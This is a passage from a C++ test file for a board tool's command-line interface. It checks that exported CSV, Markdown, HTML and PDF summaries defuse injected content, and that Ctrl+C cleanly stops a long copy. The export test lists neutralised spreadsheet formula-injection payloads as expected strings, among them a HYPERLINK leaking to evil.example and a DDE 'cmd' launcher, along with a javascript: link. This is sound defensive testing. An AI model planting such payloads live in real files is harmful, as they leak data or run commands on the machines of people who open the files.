        const std::string line = csv.substr(at, end - at);
        EXPECT_FALSE(std::regex_search(line, kFormulaCell)) << line;
    }
    for (const char* defused : {"\"'=HYPERLINK(\"\"http://evil.example/?leak\"\";\"\"Click\"\")\"", "\"'=cmd|' /C calc'!A0\"",
                                "\"'+1+1 is a formula\"", "\"'-2+3 is one too\"", "\"'@author\"", "\"'+seg\"", "\"'=cmd.csv\""})
        EXPECT_NE(csv.find(defused), std::string::npos) << defused;
    EXPECT_NE(csv.find(",2,"), std::string::npos) << "the votes stay a number";

    // Markdown: the link and image syntax is escaped, so nothing links or loads.
    const std::string md = summary("s.md");
    for (const char* live : {"](javascript", "![", "<img", "<http", "http://", "www.", "<b>"})
        EXPECT_EQ(md.find(live), std::string::npos) << live;
    EXPECT_NE(md.find("\\[click me\\]\\(javascript:alert\\(1\\)\\)"), std::string::npos) << md;

    // HTML: no link, no image, javascript: only as text.
    const std::string html = summary("s.html");
    for (const char* live : {"<a ", "<img", "<b>", "href="}) EXPECT_EQ(html.find(live), std::string::npos) << live;
    EXPECT_NE(html.find("[click me](javascript:alert(1))"), std::string::npos);

    // PDF: the noncharacter does not stop it, and every other note is in it.
    const std::string pdf = summary("s.pdf");
    ASSERT_EQ(pdf.rfind("%PDF-", 0), 0u);
    const Result text = cc::test::run({"/usr/bin/pdftotext", dir.file("s.pdf"), "-"});
    for (const char* shown : {"Ordinary note alpha", "in the middle", "+1+1 is a formula", "javascript:alert(1)"})
        EXPECT_NE(text.out.find(shown), std::string::npos) << shown;
}

// ---- Stopping a long command -------------------------------------------------------------------

TEST_F(Cli, CtrlCStopsACopyOnATerminalAndLeavesNoNewBoard) {
    // A board whose copy takes a while: 40,000 imported answers and their history.
    ok({"new", board, "--title", "Big"});
    std::string csv = "answer\n";
    for (int i = 0; i < 40000; ++i) csv += "Answer " + std::to_string(i) + ": transfers take too long at the branch\n";
    const std::string answers = dir.file("answers.csv");
    cc::test::writeFile(answers, csv);
    cc({"import", board, answers, "--text-column", "answer"});
    const std::string listed = ok({"list", board});
    const std::string target = dir.file("copy.ccboard");

    // On a terminal the copy shows its progress; Ctrl+C (SIGINT) as soon as it does.
    cc::test::Terminal t = cc::test::Terminal::start({"copy", board, target}, env);
    ASSERT_GE(t.pid, 0);
    const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(60);
    while (t.out.find(" %") == std::string::npos && std::chrono::steady_clock::now() < deadline)
        if (!t.readSome(200) && ::waitpid(t.pid, nullptr, WNOHANG) != 0) break;
    ASSERT_NE(t.out.find("copying… "), std::string::npos) << "no progress on the terminal: " << t.out;
    ::kill(t.pid, SIGINT);
    const std::size_t mark = t.out.rfind(" %");
    const std::size_t num = t.out.find_last_not_of("0123456789", mark - 1);
    const int percentAtSignal = std::stoi(t.out.substr(num + 1, mark - num - 1));
    const int status = t.finish();
    const std::string& out = t.out;
    // Only a copy all but done when the signal came may have finished anyway.
    if (WIFEXITED(status) && WEXITSTATUS(status) == 0 && percentAtSignal >= 90)
        GTEST_SKIP() << "the copy ended before the signal came: " << out;
    EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 130) << out;
    EXPECT_NE(out.find("was stopped: no new board was made"), std::string::npos) << out;
    for (const char* suffix : {"", "-wal", "-shm", "-journal"}) EXPECT_FALSE(std::filesystem::exists(target + suffix)) << suffix;
    EXPECT_EQ(ok({"list", board}), listed) << "the board copied from is as it was";
}
